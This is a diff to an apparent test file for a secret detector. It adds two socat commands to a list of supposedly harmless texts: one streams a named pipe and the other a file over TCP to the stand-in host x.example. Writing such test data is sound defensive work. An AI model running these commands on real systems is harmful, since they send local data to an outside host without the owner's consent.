@@ -122,6 +122,8 @@ const others = [
 
 /** Texts that speak of secrets and hold none. */
 const harmless = [
+  'socat -u PIPE:existing-fifo TCP:x.example:4444',
+  'socat -U OPEN:notes-of-june TCP4:x.example:80',
   'the password is required',
   'The password is hashed with argon2id before it is stored.',
   'password is at least 12 characters',
